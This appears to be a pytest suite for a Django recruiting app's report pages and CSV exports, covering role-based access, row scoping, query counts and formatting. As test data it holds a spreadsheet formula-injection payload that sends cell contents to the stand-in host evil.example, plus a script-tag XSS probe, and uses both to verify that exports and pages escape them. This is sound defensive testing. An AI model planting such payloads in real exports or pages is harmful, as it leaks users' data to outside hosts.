"""Reports as pages and as files: who may see and export them, of which rows, and with no cell that a spreadsheet runs."""

from __future__ import annotations

import csv
import html
import io
import operator
import re
from collections.abc import Iterator
from datetime import timedelta
from functools import partial
from typing import Any

import pytest
import time_machine
from django.contrib import admin
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group
from django.db import connection
from django.db.models import Model, QuerySet
from django.http import HttpRequest
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from pytest_django import Settings

from messaging import handoffs, outgoing
from messaging.admin import bars
from messaging.admin.bars import Bar
from messaging.admin.reports.frame import in_words, wait_in_words
from messaging.admin.reports.silence import clock_in_words
from messaging.delivery import outbox
from messaging.models import HandOff, Message, Minutes
from messaging.reports import hours
from messaging.roles import write_roles
from pipeline.models import Application, Job, User
from tests.factories import (
    NOW,
    OWN_WORDS,
    make_application,
    make_candidate,
    make_colleague,
    make_hand_off,
    make_job,
    make_message,
    make_sender,
    make_user,
    reject,
)

pytestmark = pytest.mark.django_db

PAGES = ("hours", "answers", "silence", "moments")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
each_page = pytest.mark.parametrize("name", PAGES)


@pytest.fixture(autouse=True)
def _now() -> Iterator[None]:
    with time_machine.travel(NOW + timedelta(days=2), tick=False):  # a Thursday
        yield


def client_of(person: User) -> Client:
    client = Client()
    client.force_login(person)
    return client


@pytest.fixture
def coordinator() -> Client:
    return client_of(make_colleague("Coordinator"))


@pytest.fixture
def administrator() -> Client:
    return client_of(make_colleague("Administrator"))


def text_of(client: Client, name: str, query: str = "") -> str:
    response = client.get(reverse(f"reports:{name}") + query)
    assert response.status_code == 200
    return html.unescape(response.content.decode())


def rows_of(client: Client, name: str, query: str = "") -> list[dict[str, str]]:
    response: Any = client.get(reverse(f"reports:{name}_csv") + query)
    assert (response.status_code, response.streaming) == (200, True)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def fill(first_name: str = "Kim", *, job: Job | None = None) -> Application:
    """Something for every report: a mail of an automation, an answered hand-off, and somebody who was never told."""
    job = job or make_job()
    make_message(application=make_application(job=job))
    outbox.drain(clock=partial(operator.add, NOW, timedelta(hours=1)))
    person = make_candidate(first_name=first_name)
    hand_off = make_hand_off(application=make_application(candidate=person, job=job), job=job, delay=9)
    called = handoffs.tell_by_phone(hand_off, note="Called.", by=make_sender(), now=NOW + timedelta(hours=5))
    assert isinstance(called, HandOff)
    waiting = make_application(candidate=make_candidate(first_name=first_name), job=job, now=NOW - timedelta(days=9))
    reject(waiting)
    return waiting


# --- Who ---


@each_page
def test_an_auditor_sees_reports_and_exports_none(name: str) -> None:
    auditor = client_of(make_colleague("Auditor"))
    assert "Export as CSV" not in text_of(auditor, name)
    assert auditor.get(reverse(f"reports:{name}_csv")).status_code == 403


@each_page
def test_a_coordinator_sees_and_exports_them(name: str, coordinator: Client) -> None:
    assert reverse(f"reports:{name}_csv") in text_of(coordinator, name)
    assert rows_of(coordinator, name) == []


@each_page
def test_who_has_no_role_sees_none(name: str) -> None:
    nobody = client_of(make_user())
    assert nobody.get(reverse(f"reports:{name}")).status_code == 403
    assert nobody.get(reverse(f"reports:{name}_csv")).status_code == 403
    assert Client().get(reverse(f"reports:{name}")).status_code == 302


@each_page
def test_reports_change_nothing_so_nothing_is_posted_to_them(name: str, coordinator: Client) -> None:
    assert coordinator.post(reverse(f"reports:{name}")).status_code == 405
    assert coordinator.post(reverse(f"reports:{name}_csv")).status_code == 405


@each_page
def test_they_count_only_rows_that_a_person_may_see(
    name: str, coordinator: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    mine, foreign = make_job(), make_job()
    for job in (mine, foreign):
        fill("Mine" if job == mine else "Foreign", job=job)
    everything = rows_of(coordinator, name)

    def narrow(model: type[Model], path: str) -> None:
        page = admin.site.get_model_admin(model)
        whole = page.get_queryset

        def get_queryset(request: HttpRequest) -> QuerySet[Any]:
            return whole(request).filter(**{path: mine})

        monkeypatch.setattr(page, "get_queryset", get_queryset)

    narrow(Application, "job")
    for model in (Message, HandOff):
        narrow(model, "application__job")
    shown = rows_of(coordinator, name)
    assert shown
    assert len(shown) < len(everything) or name == "hours"
    assert "Foreign" not in str(shown) + text_of(coordinator, name)
    if name == "hours":
        assert sum(int(row["counted"]) for row in everything) == 2 * sum(int(row["counted"]) for row in shown) == 2


# --- Files ---


@pytest.mark.parametrize("name", ["answers", "silence", "moments"])
def test_no_cell_of_a_file_is_a_formula(name: str, coordinator: Client) -> None:
    fill(FORMULA, job=make_job(title="@SUM(1)"))
    rows = [row for row in rows_of(coordinator, name) if "HYPERLINK" in row["candidate"]]
    assert rows
    for row in rows:
        assert row["candidate"].startswith(f"'{FORMULA}")
        assert row["job"] == "'@SUM(1)"
        assert not [cell for cell in row.values() if cell[:1] in tuple("=+@\t\r")]


def test_a_name_of_a_person_is_no_formula_either(coordinator: Client) -> None:
    recruiter = make_sender(first_name="+44", last_name="calls")
    make_message(application=make_application(job=make_job(recruiter=recruiter)))
    outbox.drain(clock=lambda: NOW + timedelta(hours=1))
    [row] = rows_of(coordinator, "hours")
    assert row["person"] == "'+44 calls"


def test_numbers_stay_numbers_and_times_are_the_organisations(coordinator: Client) -> None:
    fill()
    [row] = rows_of(coordinator, "answers")
    assert (row["hours"], row["in time"]) == ("5.0", "yes")
    assert row["closed at"] == "2026-09-15 15:00"  # 14:00 in UTC
    [row] = [row for row in rows_of(coordinator, "silence") if row["rejected"] == "yes"]
    assert (row["working days"], row["days of the legal clock left"]) == ("9", "")


def test_a_file_begins_with_the_mark_that_makes_a_spreadsheet_read_it_right(coordinator: Client) -> None:
    fill("Zoë")
    response: Any = coordinator.get(reverse("reports:silence_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="byhand-ghosting-ledger-2026-09-17.csv"'
    content = b"".join(response.streaming_content)
    assert content.startswith("\ufeffcandidate,".encode())
    assert "Zoë".encode() in content


# --- Pages ---


@each_page
def test_pages_and_files_ask_no_question_per_row(name: str, coordinator: Client) -> None:
    def queries(url: str) -> int:
        with CaptureQueriesContext(connection) as captured:
            response: Any = coordinator.get(url)
            assert response.status_code == 200
            if response.streaming:
                b"".join(response.streaming_content)
        return len(captured)

    urls = [reverse(f"reports:{name}"), reverse(f"reports:{name}_csv")]
    fill()
    [queries(url) for url in urls]
    few = [queries(url) for url in urls]
    for _ in range(3):
        fill()
    assert [queries(url) for url in urls] == few
    assert max(few) <= 20


@each_page
def test_a_hostile_name_stays_text(name: str, coordinator: Client) -> None:
    evil = "<script>alert(1)</script>"
    fill(evil, job=make_job(title=evil, recruiter=make_sender(first_name=evil)))
    assert evil not in coordinator.get(reverse(f"reports:{name}")).content.decode()


@each_page
def test_a_page_can_be_narrowed_to_a_job_and_takes_any_nonsense(name: str, coordinator: Client) -> None:
    job, other = make_job(), make_job()
    fill("Wanted", job=job)
    fill("Unwanted", job=other)
    assert "Unwanted" not in text_of(coordinator, name, f"?job={job.pk}")
    assert "Unwanted" not in str(rows_of(coordinator, name, f"?job={job.pk}"))
    shown = text_of(coordinator, name, f"?job={job.pk}&weeks=4")
    for tab in PAGES:
        assert f'href="{reverse(f"reports:{tab}")}?weeks=4&job={job.pk}"' in shown
    assert len(rows_of(coordinator, name, "?job=x&weeks=99&show=%00&p=x")) == len(rows_of(coordinator, name))
    text_of(coordinator, name, "?job=x&weeks=99&show=%00&p=x")


NUMBER = re.compile(r'href="(/admin/messaging/(?:message|handoff)/\?[^"]+)">(\d+)<')


@pytest.mark.parametrize("of_a_job", [False, True])
def test_numbers_of_mail_lead_to_lists_of_as_many_rows(of_a_job: bool, coordinator: Client) -> None:
    job = make_job()
    for moment in (NOW - timedelta(days=8), NOW):
        make_message(application=make_application(job=job), now=moment)
        make_message(now=moment)
        outbox.drain(clock=partial(operator.add, moment, timedelta(hours=1)))
    links = NUMBER.findall(text_of(coordinator, "hours", f"?job={job.pk}" if of_a_job else ""))
    assert sorted(int(number) for _, number in links) == ([1, 1, 2] if of_a_job else [2, 2, 4])
    for address, number in links:
        assert coordinator.get(address).context["cl"].result_count == int(number)


def test_numbers_of_answers_lead_to_lists_of_as_many_rows_and_what_was_taken_back_is_none(coordinator: Client) -> None:
    now = timezone.now()
    recruiter = make_sender()
    write_roles()
    recruiter.groups.add(Group.objects.get(name="Recruiter"))
    handoffs.tell_by_phone(make_hand_off(delay=9), note="Called.", by=recruiter, now=NOW + timedelta(hours=5))
    handoffs.tell_by_phone(make_hand_off(delay=9), note="Called.", by=make_sender(), now=now)
    handoffs.close_as_not_needed(make_hand_off(delay=9), reason="They know.", by=recruiter, now=now)
    sent = handoffs.answer(make_hand_off(delay=9), subject="Our talk", body=OWN_WORDS, by=recruiter, now=now)
    assert isinstance(sent, Message)
    outgoing.cancel(sent, by=recruiter, now=now)
    links = NUMBER.findall(text_of(coordinator, "answers"))
    assert sorted(int(number) for _, number in links) == [1, 1, 2, 2, 2]
    for address, number in links:
        assert coordinator.get(address).context["cl"].result_count == int(number)
    week = client_of(recruiter).get(reverse("admin:index")).context["week"]
    assert week["answered"] == client_of(recruiter).get(week["answered_url"]).context["cl"].result_count == 2


def test_human_moments_say_why_a_time_is_missing(coordinator: Client) -> None:
    now = NOW + timedelta(hours=5)
    handoffs.tell_by_phone(make_hand_off(), note="Called.", by=make_sender(), now=now)
    page = text_of(coordinator, "moments")
    assert "by phone only" in page
    assert "not known" not in page
    sent = handoffs.answer(make_hand_off(), subject="Our talk", body=OWN_WORDS, by=make_sender(), now=now)
    assert isinstance(sent, Message)
    outbox.drain(clock=lambda: now + timedelta(hours=1))
    page = text_of(coordinator, "moments")
    assert "not known" in page
    assert "by phone only" not in page


def test_the_ghosting_ledger_leads_to_the_candidate_and_to_the_act(coordinator: Client) -> None:
    waiting = fill("Ida")
    hand_off = make_hand_off(application=make_application(now=NOW - timedelta(days=9)))
    page = text_of(coordinator, "silence")
    for address in (
        reverse("admin:pipeline_candidate_change", args=[waiting.candidate_id]),
        reverse("admin:messaging_message_write", args=[waiting.pk]),
        reverse("admin:messaging_handoff_compose", args=[hand_off.pk]),
    ):
        assert f'href="{address}"' in page
    assert "Nothing is on its way." in page
    auditor = client_of(make_colleague("Auditor"))
    assert reverse("admin:messaging_message_write", args=[waiting.pk]) not in text_of(auditor, "silence")


def test_the_ghosting_ledger_shows_the_legal_clock_where_one_is_set(coordinator: Client, settings: Settings) -> None:
    assert "Legal clock" not in text_of(coordinator, "silence")
    settings.LEGAL_CLOCK_DAYS = 45
    page = text_of(coordinator, "silence", "?show=clock")
    assert "Legal clock" in page
    assert "Of the 45 calendar days" in page


@pytest.mark.parametrize(
    ("left", "words"), [(None, ""), (9, "9 days left"), (1, "1 day left"), (0, "0 days left"), (-2, "2 days over")]
)
def test_days_of_the_clock_are_said_in_words(left: int | None, words: str) -> None:
    assert clock_in_words(left).endswith(words)


def test_an_empty_report_says_what_will_appear_there(coordinator: Client) -> None:
    assert "No automation has sent anything in this time." in text_of(coordinator, "hours")
    assert "Nobody. A candidate appears here who heard nothing for 5 working days" in text_of(coordinator, "silence")
    for name in ("answers", "moments"):
        assert "Nothing in this time." in text_of(coordinator, name)
    assert "half were answered sooner" not in text_of(coordinator, "answers")
    assert "nothing was answered in this time" in text_of(coordinator, "answers")


# --- The minutes ---

MINUTES = "reports:minutes"


def test_an_administrator_changes_the_minutes_and_it_is_written_down(administrator: Client) -> None:
    wanted = hours.read_minutes() | {"rejection": 8}
    page = administrator.post(reverse(MINUTES), wanted, follow=True).content.decode()
    assert "The minutes are saved" in page
    assert hours.read_minutes() == wanted
    [entry] = LogEntry.objects.all()
    assert entry.change_message == "8 minutes by hand."
    administrator.post(reverse(MINUTES), wanted)
    assert LogEntry.objects.count() == 1


@pytest.mark.parametrize("wrong", ["-1", "241", "x", ""])
def test_minutes_that_make_no_sense_are_refused_and_nothing_is_saved(wrong: str, administrator: Client) -> None:
    wanted = {**hours.read_minutes(), "survey": 4, "rejection": wrong}
    page = administrator.post(reverse(MINUTES), wanted, follow=True).content.decode()
    assert "Nothing was saved." in page
    assert not Minutes.objects.exists()


def test_nobody_else_changes_them_and_a_visit_changes_nothing(coordinator: Client, administrator: Client) -> None:
    wanted = hours.read_minutes() | {"rejection": 8}
    assert coordinator.post(reverse(MINUTES), wanted).status_code == 403
    assert administrator.get(reverse(MINUTES), wanted).status_code == 405
    assert not Minutes.objects.exists()
    assert "An administrator can change the minutes." in text_of(coordinator, "hours")
    assert "Save minutes" in text_of(administrator, "hours")


# --- Charts and words ---


def test_bars_stand_on_one_another_and_end_below_the_top() -> None:
    chart = bars.draw([Bar(label="Mon", values=[3, 1]), Bar(label="Tue", values=[0, 0])], series=["a", "b"])
    first, second = chart["bars"][0]["parts"]
    assert (first["y"] + first["height"], second["y"] + second["height"]) == (bars.HEIGHT, first["y"])
    assert chart["top"] == "4"
    assert chart["bars"][1]["parts"] == []
    assert (chart["bars"][0]["cells"], chart["is_empty"], chart["goal"]) == (["3", "1"], False, None)


def test_the_goal_is_in_the_drawing_even_where_no_bar_reaches_it() -> None:
    chart = bars.draw([Bar(label="Mon", values=[0])], series=["a"], goal=12)
    assert (chart["goal"], chart["is_empty"]) == ({"at": 400, "said": "12"}, True)


@pytest.mark.parametrize(("value", "top"), [(0, 1), (1, 1), (3, 4), (7, 8), (12, 20), (0.3, 0.4), (101, 200)])
def test_an_axis_ends_at_a_number_that_reads_well(value: float, top: float) -> None:
    assert bars.round_up(value) == pytest.approx(top)


@pytest.mark.parametrize(
    ("minutes", "words"), [(0, "0 min"), (59, "59 min"), (60, "1 h"), (75, "1 h 15 min"), (720, "12 h")]
)
def test_minutes_are_said_in_hours_from_an_hour_on(minutes: int, words: str) -> None:
    assert in_words(minutes) == words


@pytest.mark.parametrize(
    ("took", "words"),
    [
        (timedelta(minutes=12), "12 min"),
        (timedelta(hours=5, minutes=20), "5 h 20 min"),
        (timedelta(days=2, minutes=20), "2 d"),
        (timedelta(days=1, hours=23), "1 d 23 h"),
    ],
)
def test_waits_are_said_in_two_units_at_most(took: timedelta, words: str) -> None:
    assert wait_in_words(took) == words
